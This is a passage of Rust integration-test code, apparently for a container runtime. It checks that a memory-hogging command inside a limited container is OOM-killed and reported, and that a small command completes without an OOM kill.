        let ev = rt.run(&["events", "--stats", &id])?.ok()?;
        let ev: serde_json::Value = serde_json::from_str(&ev.stdout)?;
        rt.run(&["delete", "--force", &id])?.ok()?;
        Ok((out, ev))
    };
    let (out, ev) = run("exec tail /dev/zero")?;
    ensure!(
        out.code == 128 + libc::SIGKILL,
        "hog exit {}: {out:?}",
        out.code
    );
    let kills = ev["data"]["memory"]["oomKill"].as_u64().unwrap_or(0);
    ensure!(kills >= 1, "no OOM kill reported: {ev}");
    let (out, ev) = run("head -c 1048576 /dev/zero | wc -c")?;
    ensure!(out.code == 0 && out.stdout.trim() == "1048576", "{out:?}");
    ensure!(
        ev["data"]["memory"]["oomKill"].as_u64().unwrap_or(0) == 0,
        "{ev}"
    );
    Ok(())
}
